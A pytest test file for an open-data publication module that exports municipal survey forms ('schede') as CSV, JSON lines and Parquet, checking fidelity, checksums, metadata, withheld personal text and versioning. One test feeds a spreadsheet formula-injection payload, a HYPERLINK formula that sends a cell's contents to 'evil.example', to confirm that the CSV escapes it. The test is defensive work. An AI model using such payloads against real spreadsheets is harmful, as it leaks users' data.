# SPDX-License-Identifier: EUPL-1.2
"""A publication: the files hold what was sent and nothing else, in every format, and never change."""

from __future__ import annotations

import hashlib
import json
from collections import Counter
from dataclasses import replace
from decimal import Decimal
from typing import Any

import duckdb
import polars as pl
import pytest
from click.testing import CliRunner

from schedario.cli.main import app
from schedario.columns.readings import read_rows
from schedario.documents.check import Checked
from schedario.nation.outliers import outliers
from schedario.portal.analysis import searching
from schedario.portal.analysis.source import read_schede
from schedario.portal.audit_log.chain import SYSTEM
from schedario.portal.audit_log.models import Event
from schedario.portal.filing.actions.confirming import confirm_warnings
from schedario.portal.filing.actions.doubting import FoundDoubt, answer_doubt, keep_found_doubts
from schedario.portal.filing.actions.reopening import reopen_scheda
from schedario.portal.filing.models import Comparison, Doubt, Submission
from schedario.portal.filing.sending.submission import PreparedSubmission
from schedario.portal.opendata.building import build
from schedario.portal.opendata.columns import build_tables, build_totals_table
from schedario.portal.opendata.files import KINDS
from schedario.portal.opendata.folders import get_folder
from schedario.portal.opendata.lookup import WithdrawnError, find_newest, get_publication
from schedario.portal.opendata.metadata import CSVW, DICTIONARY, PACKAGE
from schedario.portal.opendata.models import Publication, PublicationState, PublishedScheda
from schedario.portal.opendata.publishing import (
    AtWorkError,
    NothingToPublishError,
    publish_campaign,
    retry_publication,
    withdraw_publication,
)
from schedario.portal.opendata.records import find_held_cells
from schedario.portal.opendata.sums import SUMS
from schedario.portal.registry.models import Campaign, Comune
from schedario.tables.csv_files import restore_text
from tests.portal.filled import REASON, fill, fresh, put, receipt, send_now, warning, writer
from tests.portal.little_nation import make_nation
from tests.portal.open_data import WHOLE, csv_rows, find_doubts, json_rows, published, release
from tests.portal.world import World

REPORT = 'Il signor Rossi, "di Quintano",\nabita qui; è seguito'
TABLES = ("schede", "provenienza", "conferme", "dubbi", "messaggi", "totali")


@pytest.fixture
def sent(world: World) -> Submission:
    """Quintano's scheda with a report that names somebody, sent."""
    fill(world, R16=REPORT)
    return send_now(world)


def document(submission: Submission) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(bytes(submission.document))
    return found


def written(value: Any) -> str:
    """A value of a JSON row as it stands in the CSV."""
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


class TestFiles:
    def test_the_csv_has_every_cell_as_it_was_sent(self, world: World, sent: Submission) -> None:
        (row,) = csv_rows(published(world), "schede")
        cells = document(sent)["cells"]
        assert {name: row[name] for name in cells if name != "R16"} == {
            name: written(one["value"]) for name, one in cells.items() if name != "R16"
        }
        assert (row["codice"], row["ricevuta"], row["impronta"]) == ("CR078SIF11YE", sent.number, sent.digest)

    def test_a_row_tells_the_outcome_and_which_quadri_were_due(self, world: World, sent: Submission) -> None:
        (row,) = csv_rows(published(world), "schede")
        said = document(sent)
        assert row["esito"] == said["outcome"]["id"]
        assert row["esito_regola"] == said["outcome"]["status"]
        assert {name: row[f"quadro_{name}"] for name in said["quadri"]} == said["quadri"]

    @pytest.mark.parametrize("kind", KINDS)
    def test_rows_come_back_as_schede(self, world: World, sent: Submission, kind: str) -> None:
        """What is published is recomputed as it was sent; a text that is held back is not said to be blank."""
        file = get_folder(published(world)) / f"schede.{kind}"
        read = CliRunner().invoke(app, ["check", "--json", str(file)])
        (scheda,) = json.loads(read.stdout)["schede"]
        said = document(sent)
        assert {name: value for name, value in said["answers"].items() if name != "R16"} == scheda["answers"]
        assert {one["agrees"] for one in scheda["cells"].values()} == {None, True}
        assert scheda["ente"]["codice"] == "CR078SIF11YE"
        assert "R16" not in scheda.get("blank", [])

    def test_each_cell_says_where_its_value_comes_from(self, world: World, sent: Submission) -> None:
        rows = csv_rows(published(world), "provenienza")
        assert {row["cella"]: row["stato"] for row in rows} == {
            name: one["state"] for name, one in document(sent)["cells"].items()
        }
        total = next(row for row in rows if row["cella"] == "R0B.utenti")
        assert (total["formula"], total["regola"], total["fornita_da"]) == ("R0B.utenti", "inferred", "computed")

    def test_a_scheda_sent_without_a_figure_is_checked_as_what_it_is(self, world: World) -> None:
        fill(world, M12__utenti="n.d.: registro perso", M12__ore="n.d.: registro perso")
        send_now(world)
        made = published(world)
        (row,) = csv_rows(made, "schede")
        assert (row["completezza"], row["non_disponibili"]) == ("incomplete", "M12.utenti M12.ore")
        (scheda,) = read_rows(get_folder(made) / "schede.csv")
        checked = Checked(scheda)
        assert checked.evaluation.standing == "not_declared"
        assert not [one for one in checked.evaluation.findings if one.level == "error"]
        assert "SOC26-Q4-001" not in {one.code for one in checked.evaluation.findings}

    def test_messages_are_those_that_the_scheda_showed(self, world: World, sent: Submission) -> None:
        rows = csv_rows(published(world), "messaggi")
        assert [(row["messaggio"], row["testo"]) for row in rows] == [
            (one["id"], one["text"]) for one in document(sent)["messages"]
        ]

    @pytest.mark.usefixtures("sent")
    def test_a_csv_is_rfc_4180_in_plain_utf_8(self, world: World) -> None:
        release(world, *Submission.objects.values_list("number", flat=True))
        made = published(world)
        content = (get_folder(made) / "schede.csv").read_bytes()
        header, _, _ = content.partition(b"\r\n")
        assert content.startswith(b"codice,denominazione,")
        assert content.endswith(b"\r\n")
        assert len(set(header.split(b","))) == len(header.split(b","))
        assert csv_rows(made, "schede")[0]["R16"] == REPORT

    @pytest.mark.one_database
    @pytest.mark.parametrize(
        "text", ['=HYPERLINK("http://evil.example?x="&A1,"Leggi")', "- attività\n- spese", "'=1", "@x"]
    )
    def test_a_text_of_a_csv_is_no_formula_and_can_be_restored(self, world: World, text: str) -> None:
        fill(world, R16=text)
        sent = send_now(world)
        release(world, sent.number)
        made = published(world)
        written = csv_rows(made, "schede")[0]["R16"]
        assert (written, restore_text(written)) == (f"'{text}", text)
        assert json_rows(made, "schede")[0]["R16"] == text
        about = json.loads((get_folder(made) / PACKAGE).read_text(encoding="utf-8"))
        told = {one["path"]: one.get("description", "") for one in about["resources"]}
        assert "apostrofo" in told["schede.csv"]
        assert not told["schede.parquet"]

    @pytest.mark.one_database
    @pytest.mark.usefixtures("sent")
    @pytest.mark.parametrize("table", TABLES)
    def test_json_lines_hold_the_rows_of_the_csv(self, world: World, table: str) -> None:
        made = published(world)
        rows = json_rows(made, table)
        assert [{name: written(value) for name, value in row.items()} for row in rows] == csv_rows(made, table)

    @pytest.mark.one_database
    @pytest.mark.usefixtures("sent")
    @pytest.mark.parametrize("table", TABLES)
    def test_duckdb_finds_the_rows_of_the_csv_in_the_parquet(self, world: World, table: str) -> None:
        made = published(world)
        folder = get_folder(made)
        both = [
            duckdb.sql(f"SELECT COLUMNS(*)::VARCHAR FROM read_{kind}('{folder / table}.{kind}'{options})").fetchall()  # noqa: S608
            for kind, options in (("parquet", ""), ("csv", ", all_varchar=true, header=true"))
        ]
        moments = [column.name for column in _table(made, table).columns if column.kind == "moment"]
        assert _without(made, table, moments, both[0]) == _without(made, table, moments, both[1])

    def test_duckdb_reads_exact_types(self, world: World, sent: Submission) -> None:
        made = published(world)
        found = duckdb.sql(f"SELECT * FROM read_parquet('{get_folder(made) / 'schede.parquet'}')")  # noqa: S608
        kinds = dict(zip(found.columns, map(str, found.types), strict=True))
        expected = ("BIGINT", "DECIMAL(38,2)", "VARCHAR", "BOOLEAN", "TIMESTAMP WITH TIME ZONE")
        assert tuple(kinds[name] for name in ("R03", "R06", "R0C", "dati_di_prova", "inviata_il")) == expected
        cells, seconds = document(sent)["cells"], int(sent.sent_at.timestamp())
        (row,) = found.select("R03, R06, epoch(inviata_il)::BIGINT").fetchall()
        assert row == (cells["R03"]["value"], Decimal(cells["R06"]["value"]), seconds)

    @pytest.mark.usefixtures("sent")
    def test_the_parquet_carries_what_its_columns_mean(self, world: World) -> None:
        made = published(world)
        query = (
            f"SELECT value FROM parquet_kv_metadata('{get_folder(made) / 'schede.parquet'}') WHERE key = 'schedario'"  # noqa: S608
        )
        ((value,),) = duckdb.sql(query).fetchall()
        about = json.loads(bytes(value))
        assert about["definition_digest"] == made.definition_digest
        columns = {one["name"]: one for one in about["columns"]}
        assert (columns["R06"]["unit"], columns["R06"]["scale"], columns["R06"]["quadro"]) == ("euro", 2, "Q2")

    @pytest.mark.usefixtures("sent")
    def test_the_checksums_are_those_of_the_files(self, world: World) -> None:
        made = published(world)
        folder = get_folder(made)
        listed = dict(reversed(line.split("  ")) for line in (folder / SUMS).read_text().splitlines())
        found = {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.iterdir()}
        assert listed == {name: digest for name, digest in found.items() if name != SUMS}
        assert {file["name"]: file["sha256"] for file in made.files} == found
        assert {file["name"]: file["size"] for file in made.files} == {
            path.name: path.stat().st_size for path in folder.iterdir()
        }

    @pytest.mark.usefixtures("sent")
    def test_what_describes_the_tables_names_their_columns(self, world: World) -> None:
        made = published(world)
        folder = get_folder(made)
        package, csvw = (json.loads((folder / name).read_text()) for name in (PACKAGE, CSVW))
        described = csv_rows(made, DICTIONARY.removesuffix(".csv"))
        resources = {one["name"]: one for one in package["resources"]}
        on_the_web = {one["url"]: one["tableSchema"]["columns"] for one in csvw["tables"]}
        for table in TABLES:
            header = (folder / f"{table}.csv").read_text(encoding="utf-8").partition("\n")[0].strip().split(",")
            assert [one["name"] for one in resources[f"{table}-csv"]["schema"]["fields"]] == header
            assert [one["titles"] for one in on_the_web[f"{table}.csv"]] == header
            assert [row["colonna"] for row in described if row["tabella"] == table] == header
        assert all(
            resources[f"{file['name'].replace('.', '-')}"]["hash"] == f"sha256:{file['sha256']}"
            for file in made.files
            if file["name"].partition(".")[0] in TABLES
        )

    @pytest.mark.usefixtures("sent")
    def test_every_cell_of_the_definition_is_in_the_dictionary_with_its_source(self, world: World) -> None:
        rows = csv_rows(published(world), "dizionario")
        found = {row["colonna"]: (row["regola"], row["fonte"]) for row in rows if row["quadro"]}
        form = world.campaign.form
        assert found == {name: (cell.rule.status, cell.rule.source) for name, cell in form.cells.items()}

    @pytest.mark.usefixtures("sent")
    def test_cells_of_one_label_are_told_apart_by_the_heading_above_them(self, world: World) -> None:
        rows = [row for row in csv_rows(published(world), "dizionario") if row["quadro"]]
        told = [(row["etichetta"].partition(" - ")[2], row["sezione"]) for row in rows]
        assert len(set(told)) == len(told)
        found = {row["colonna"]: row for row in rows}
        assert found["M35.utenti"]["sezione"] == "Contributi economici"
        assert found["R03"]["sezione"] == "Informazioni relative al Comune"
        assert found["R12.intervento"]["valori"].endswith(" | (altro testo)")


class TestWhatIsPublished:
    def test_all_snapshots_are_computed_again_and_none_differs(self, world: World, sent: Submission) -> None:
        made = published(world)
        assert (made.recomputed, made.total, sent.definition_digest) == (1, 1, made.definition_digest)

    def test_a_snapshot_that_computes_otherwise_stops_the_publication(self, world: World, sent: Submission) -> None:
        before = b'"R03": {\n   "state": "prefilled",\n   "value": '
        changed = bytes(sent.document).replace(before, before + b"1")
        assert changed != bytes(sent.document)
        Submission.objects.filter(pk=sent.pk).update(document=changed)
        made = publish_campaign(world.campaign.pk, SYSTEM, None, WHOLE)
        with pytest.raises(Exception, match=sent.number):
            build.call(made.pk)
        made.refresh_from_db()
        assert (made.state, made.files) == (PublicationState.FAILED, [])
        assert sent.number in made.problem
        assert find_newest() == []

    def test_what_failed_is_built_once_the_cause_is_gone(self, world: World, sent: Submission) -> None:
        Submission.objects.filter(pk=sent.pk).update(document=b"{}")
        made = publish_campaign(world.campaign.pk, SYSTEM, None, WHOLE)
        with pytest.raises(KeyError):
            build.call(made.pk)
        Submission.objects.filter(pk=sent.pk).update(document=sent.document)
        retry_publication(Publication.objects.get(pk=made.pk))
        build.call(made.pk)
        made.refresh_from_db()
        assert (made.state, made.problem, made.done) == (PublicationState.READY, "", 1)

    def test_a_rectification_takes_the_place_of_what_it_replaces(self, world: World, sent: Submission) -> None:
        reopen_scheda(fresh(world), SYSTEM, "un utente in più")
        put(world, M12__utenti="9")
        later = send_now(world)
        (row,) = csv_rows(published(world), "schede")
        assert (row["ricevuta"], row["rettifica"], row["M12.utenti"]) == (later.number, "true", "9")
        assert later.replaces == sent

    def test_while_a_scheda_is_rectified_what_was_sent_is_published(self, world: World, sent: Submission) -> None:
        reopen_scheda(fresh(world), SYSTEM, "un utente in più")
        put(world, M12__utenti="9")
        (row,) = csv_rows(published(world), "schede")
        assert (row["ricevuta"], row["M12.utenti"]) == (
            sent.number,
            str(document(sent)["cells"]["M12.utenti"]["value"]),
        )

    def test_invented_comuni_are_left_out_of_a_real_campaign(self, world: World, sent: Submission) -> None:
        Comune.objects.filter(pk=sent.scheda.comune_id).update(synthetic=True)
        with pytest.raises(NothingToPublishError):
            publish_campaign(world.campaign.pk, SYSTEM, None, WHOLE)

    def test_a_trial_says_so_in_its_title_and_in_each_row(self, world: World) -> None:
        Campaign.objects.filter(pk=world.campaign.pk).update(synthetic=True)
        fill(world)
        send_now(world)
        made = published(world)
        package = json.loads((get_folder(made) / PACKAGE).read_text())
        assert made.title.startswith("DATI DI PROVA")
        assert (package["title"], package["synthetic"]) == (made.title, True)
        assert [row["dati_di_prova"] for row in csv_rows(made, "schede")] == ["true"]

    def test_with_nothing_sent_there_is_nothing_to_publish(self, world: World) -> None:
        with pytest.raises(NothingToPublishError):
            publish_campaign(world.campaign.pk, SYSTEM, None, WHOLE)
        assert not Publication.objects.exists()

    @pytest.mark.usefixtures("sent")
    def test_one_version_is_built_at_a_time(self, world: World) -> None:
        publish_campaign(world.campaign.pk, SYSTEM, None, WHOLE)
        with pytest.raises(AtWorkError):
            publish_campaign(world.campaign.pk, SYSTEM, None, WHOLE)

    def test_a_snapshot_of_another_definition_keeps_its_own_cells_out(self, world: World) -> None:
        """Cells that the definition of the publication has not are told, not published."""
        sent = receipt(world)
        other = document(sent)
        other["cells"]["Z99"] = {"state": "answered", "value": 3}
        del other["cells"]["M12.ore"]
        kept = {"document": json.dumps(other).encode(), "definition_version": "0.9.0", "definition_digest": "0" * 64}
        Submission.objects.filter(pk=sent.pk).update(**kept)
        made = published(world)
        (row,) = csv_rows(made, "schede")
        assert (made.left_out, made.recomputed) == (["Z99"], 0)
        assert (row["definizione_versione"], row["M12.ore"]) == ("0.9.0", "")
        assert "M12.ore" not in {one["cella"] for one in csv_rows(made, "provenienza")}

    def test_a_value_with_other_decimals_than_the_definition_stops_the_publication(self, world: World) -> None:
        sent = receipt(world)
        other = document(sent)
        other["cells"]["R06"]["value"] = "10.123"
        kept = {"document": json.dumps(other).encode(), "definition_digest": "0" * 64}
        Submission.objects.filter(pk=sent.pk).update(**kept)
        made = publish_campaign(world.campaign.pk, SYSTEM, None, WHOLE)
        with pytest.raises(Exception, match="R06"):
            build.call(made.pk)


class TestFreeText:
    @pytest.mark.usefixtures("sent")
    def test_without_a_release_no_file_has_the_text(self, world: World) -> None:
        made = published(world)
        contents = [path.read_bytes() for path in get_folder(made).iterdir()]
        assert not [one for one in contents if b"Rossi" in one]
        (row,) = [one for one in csv_rows(made, "provenienza") if one["cella"] == "R16"]
        assert (row["stato"], row["trattenuto"]) == ("answered", "true")

    def test_a_release_holds_for_the_versions_after_it(self, world: World, sent: Submission) -> None:
        first = published(world)
        before = {path.name: path.read_bytes() for path in get_folder(first).iterdir()}
        release(world, sent.number)
        second = published(world)
        assert csv_rows(second, "schede")[0]["R16"] == REPORT
        assert {path.name: path.read_bytes() for path in get_folder(first).iterdir()} == before
        assert get_publication("soc26").number == second.number == 2

    def test_a_rectification_needs_a_release_of_its_own(self, world: World, sent: Submission) -> None:
        release(world, sent.number)
        reopen_scheda(fresh(world), SYSTEM, "un utente in più")
        put(world, M12__utenti="9")
        send_now(world)
        assert csv_rows(published(world), "schede")[0]["R16"] == ""

    def test_a_release_can_be_taken_back_and_both_are_events(self, world: World, sent: Submission) -> None:
        release(world, sent.number)
        release(world)
        assert csv_rows(published(world), "schede")[0]["R16"] == ""
        told = Event.objects.filter(subject="scheda:soc26/CR078SIF11YE", kind__startswith="submission:texts:")
        kinds = list(told.values_list("kind", flat=True))
        assert kinds == ["submission:texts:released", "submission:texts:withheld"]

    def test_an_entry_of_the_definitions_list_is_no_free_text(self, world: World) -> None:
        form = world.campaign.form
        listed = replace(form.lists["modalita"], entries=("costo standard", "costo effettivo"))
        form = replace(form, lists={**form.lists, "modalita": listed})
        cells = {"R10.modalita": {"value": "costo standard"}, "R11.modalita": {"value": "come ci pare"}}
        assert find_held_cells(form, cells) == {"R11.modalita"}

    def test_the_reason_of_a_confirmation_is_held_back_and_its_fact_is_not(self, world: World) -> None:
        fill(world, M24__utenti="100")
        fact = warning(world)
        confirm_warnings(world.scheda.pk, 1, [fact], "Lo sa bene il signor Rossi", writer(world))
        sent = send_now(world)
        (held,) = csv_rows(published(world), "conferme")
        release(world, sent.number)
        (released,) = csv_rows(published(world), "conferme")
        assert (held["segnalazione"], held["celle"], held["trovato"]) == (fact[0], " ".join(fact[1]), fact[2])
        assert (held["confermata"], held["motivo"], held["trattenuto"]) == ("true", "", "true")
        assert (released["motivo"], released["trattenuto"]) == ("Lo sa bene il signor Rossi", "false")

    def test_a_warning_that_nobody_confirmed_is_published_as_such(self, world: World) -> None:
        fill(world, M24__utenti="100")
        send_now(world)
        (row,) = csv_rows(published(world), "conferme")
        assert (row["confermata"], row["motivo"], row["confermata_il"], row["trattenuto"]) == ("false", "", "", "false")

    @pytest.mark.usefixtures("sent")
    def test_no_file_names_a_person(self, world: World) -> None:
        contents = b"".join(path.read_bytes() for path in get_folder(published(world)).iterdir())
        assert not [user.email for user in world.people.values() if user.email.encode() in contents]
        assert b'"by"' not in contents


class TestVersions:
    @pytest.mark.usefixtures("sent")
    def test_a_withdrawn_version_gives_way_to_the_one_before(self, world: World) -> None:
        published(world)
        second = published(world)
        withdraw_publication(second.pk, "vi era il nome di una persona", SYSTEM)
        assert get_publication("soc26").number == 1
        with pytest.raises(WithdrawnError):
            get_publication("soc26", 2)
        assert published(world).number == 3

    @pytest.mark.usefixtures("sent")
    def test_publishing_is_told_in_the_journal(self, world: World) -> None:
        made = published(world)
        events = {one.kind: json.loads(one.details) for one in Event.objects.filter(subject="campaign:soc26")}
        assert events["campaign:publication:begun"] == {"version": 1, "schede": 1, "act": WHOLE.act}
        assert events["campaign:publication:ready"]["digest"] == made.digest

    @pytest.mark.usefixtures("sent")
    def test_a_comune_that_moves_later_stays_where_it_was(self, world: World) -> None:
        made = published(world)
        Comune.objects.filter(pk=world.quintano.pk).update(ats=world.other_ats, regione="Altrove")
        assert PublishedScheda.objects.get(publication=made).ats == "crema"
        build.call(made.pk)  # a second run of the task changes nothing
        assert csv_rows(made, "schede")[0]["ats"] == "crema"


def _table(made: Publication, name: str) -> Any:
    tables = (*build_tables(made.campaign.form), build_totals_table())
    return next(table for table in tables if table.name == name)


def _without(made: Publication, table: str, columns: list[str], rows: list[Any]) -> list[dict[str, Any]]:
    """The rows by name; moments are the same in both files, written otherwise."""
    names = _table(made, table).column_names
    found = [dict(zip(names, row, strict=True)) for row in rows]
    return [{name: value or None for name, value in row.items() if name not in columns} for row in found]


class TestDoubts:
    @pytest.fixture
    def doubted(self, world: World, monkeypatch: pytest.MonkeyPatch) -> World:
        """Quintano, sent with a doubt about its inhabitants, and one about a figure that it has not."""
        fill(world)
        told = {
            "level": "warning",
            "status": "project",
            "message": "Molti.",
            "remedy": "",
            "expected": "9, di 35 comuni",
        }
        about = {"code": "SOC26-P-001", "scheda": world.scheda.pk, "version": 0, "told": told, "cells": ["R03"]}
        doubts = [FoundDoubt(found=f"Abitanti: {seen}", seen={"R03": seen}, **about) for seen in ("933", "12")]
        find_doubts(monkeypatch, doubts, [world.scheda])
        keep_found_doubts(world.campaign, doubts)
        send_now(world)
        return world

    def test_what_was_sent_is_flagged_with_the_group_and_the_state(self, doubted: World) -> None:
        made = published(doubted)
        (row,) = csv_rows(made, "dubbi")
        assert (row["segnalazione"], row["trovato"], row["confronto"], row["stato"]) == (
            "SOC26-P-001",
            "Abitanti: 933",
            "9, di 35 comuni",
            "open",
        )
        assert [row["dubbi_aperti"] for row in csv_rows(made, "schede")] == ["1"]

    def test_an_answer_is_flagged_and_its_words_are_held_back_until_they_are_released(self, doubted: World) -> None:
        answer_doubt(Doubt.objects.get(found="Abitanti: 933").pk, REASON, writer(doubted))
        release(doubted, Submission.objects.get().number)
        (held,) = csv_rows(published(doubted), "dubbi")  # given after the sending: whoever released did not see it
        assert (held["stato"], held["motivo"], held["trattenuto"]) == ("answered", "", "true")
        reopen_scheda(fresh(doubted), writer(doubted, "responsabile").who, "Ore contate due volte")
        release(doubted, send_now(doubted).number)
        made = published(doubted)
        (told,) = csv_rows(made, "dubbi")
        assert (told["motivo"], told["trattenuto"]) == (REASON, "false")
        assert [row["dubbi_aperti"] for row in csv_rows(made, "schede")] == ["0"]

    def test_what_nobody_had_searched_is_searched_and_what_cannot_be_compared_has_no_number(self, world: World) -> None:
        campaign = make_nation()
        for submission in Submission.objects.select_related("scheda").filter(scheda__campaign=campaign):
            prepared = PreparedSubmission(submission.scheda)
            Submission.objects.filter(pk=submission.pk).update(
                document=prepared.json_bytes, definition_digest=campaign.definition_digest, digest=prepared.digest
            )
        assert not Doubt.objects.exists()
        made = published(replace(world, campaign=campaign))
        assert made.state == "ready", made.problem
        schede = read_schede(campaign)
        sent = schede.filter(pl.col("stato") == "inviata")["codice"]
        wanted = outliers(campaign.form, schede, stored=True).filter(
            pl.col("row").is_not_null() & pl.col("codice").is_in(sent.implode())
        )
        told = [(row["codice"], row["segnalazione"], row["celle"].split()) for row in csv_rows(made, "dubbi")]
        assert sorted(told) == sorted(wanted.select("codice", "code", "cells").rows())
        assert Doubt.objects.count() > len(told) > 0  # the comuni see theirs, also those that have not sent
        open_ones = Counter(codice for codice, _code, _cells in told)
        compared = dict(Comparison.objects.values_list("scheda__comune__codice", "made"))
        for row in csv_rows(made, "schede"):
            codice = row["codice"]
            assert row["dubbi_aperti"] == ("" if not compared[codice] else str(open_ones[codice]))
            assert row["dubbi_riservati"] == "false"

    def test_a_scheda_without_comparison_has_no_number_of_doubts(
        self, doubted: World, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        find_doubts(monkeypatch, [], [doubted.scheda], made=0)
        made = published(doubted)
        assert [(row["dubbi_aperti"], row["dubbi_riservati"]) for row in csv_rows(made, "schede")] == [("", "false")]
        find_doubts(monkeypatch, [], [doubted.scheda], made=1)
        assert [row["dubbi_aperti"] for row in csv_rows(published(doubted), "schede")] == ["0"]

    def test_a_rectification_that_is_not_sent_changes_no_doubt_about_what_was(
        self, doubted: World, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        reopen_scheda(fresh(doubted), writer(doubted, "responsabile").who, "Ore contate due volte")
        monkeypatch.setattr(searching, "search_doubts", lambda _campaign, **_how: ([], []))  # the draft has none
        made = published(doubted)
        assert [row["trovato"] for row in csv_rows(made, "dubbi")] == ["Abitanti: 933"]
        assert [row["dubbi_aperti"] for row in csv_rows(made, "schede")] == ["1"]
